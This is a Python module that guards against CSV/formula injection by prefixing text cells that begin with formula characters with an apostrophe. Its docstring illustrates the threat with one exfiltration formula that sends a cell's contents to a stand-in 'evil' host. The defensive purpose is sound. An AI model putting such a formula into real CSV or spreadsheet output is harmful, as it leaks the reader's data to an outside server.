"""CSV cells that a spreadsheet will not run as formulas (CSV/formula injection, CWE-1236).

Rater comments, participant ids, handles, labels, class and study names reach the CSV files trustlab
writes, and Excel, LibreOffice and Google Sheets treat a cell that starts with ``= + - @`` (or a tab
or carriage return before one) as a formula: ``=HYPERLINK("http://evil/?"&A1)`` in a comment would
run on the researcher's machine. Every text cell that starts with one of those characters gets a
leading ``'``, which spreadsheets show as plain text. Numbers stay numbers (a negative number is not a
formula), so ``pandas.read_csv`` still reads numeric columns as numeric. To get the original text
back, drop one leading ``'`` from a text cell that starts with ``'`` followed by one of the characters
(``unescape_cell``).

Every CSV writer in trustlab goes through ``write_csv`` (a DataFrame) or ``escape_row`` (``csv.writer``
rows). Torch-free; imports only pandas.
"""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path
from typing import IO, Any

import pandas as pd

# The characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
# What goes in front of such a cell: spreadsheets show a cell starting with ' as text.
ESCAPE = "'"


def escape_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text starting with a formula character; anything else
    (numbers, booleans, None, NaN, other text) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return ESCAPE + value
    return value


def unescape_cell(value: Any) -> Any:
    """The inverse of ``escape_cell`` for a cell read back from a trustlab CSV."""
    if isinstance(value, str) and value.startswith(ESCAPE) and value[1:].startswith(FORMULA_PREFIXES):
        return value[1:]
    return value


def escape_row(row: Iterable[Any]) -> list[Any]:
    """One ``csv.writer`` row with every cell through ``escape_cell``."""
    return [escape_cell(v) for v in row]


def escape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names and index labels are escaped.

    Numeric, boolean and datetime columns are left as they are (never stringified); object and string
    columns go cell by cell, so numbers inside an object column stay numbers. ``frame`` is not changed.
    """
    out = frame.copy()
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if _text_dtype(column):
            out.isetitem(position, column.astype(object).map(escape_cell))
    out.columns = _escape_index(out.columns)
    out.index = _escape_index(out.index)
    return out


def write_csv(frame: pd.DataFrame, path_or_buffer: str | Path | IO[str], **to_csv: Any) -> None:
    """``frame.to_csv(path_or_buffer, **to_csv)`` with ``escape_frame`` applied first."""
    escape_frame(frame).to_csv(path_or_buffer, **to_csv)


def _text_dtype(column: pd.Series) -> bool:
    dtype = column.dtype
    return not (
        pd.api.types.is_numeric_dtype(dtype)
        or pd.api.types.is_bool_dtype(dtype)
        or pd.api.types.is_datetime64_any_dtype(dtype)
        or pd.api.types.is_timedelta64_dtype(dtype)
    )


def _escape_index(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex) or not _text_dtype(index.to_series()):
        return index
    return pd.Index([escape_cell(v) for v in index], name=escape_cell(index.name), dtype=object)
